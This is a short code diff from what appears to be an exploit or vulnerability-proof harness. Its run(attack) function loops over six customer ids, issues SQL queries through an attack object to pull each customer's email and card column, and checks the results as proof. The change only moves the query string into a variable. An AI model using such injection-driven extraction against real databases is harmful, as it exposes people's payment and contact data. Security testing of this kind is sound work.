@@ -9,7 +9,8 @@ ROWS = 6
 def run(attack: Attack) -> bool:
     rows = []
     for number in range(1, ROWS + 1):
-        rows.append(attack.sql("", f"SELECT mail || ' ' || card FROM customers WHERE id = {number}"))
+        row = f"SELECT mail || ' ' || card FROM customers WHERE id = {number}"
+        rows.append(attack.sql("", row))
         attack.wait(10)
     return attack.prove(all(f"customer{n}@" in row for n, row in enumerate(rows, 1)), rows=rows)
 
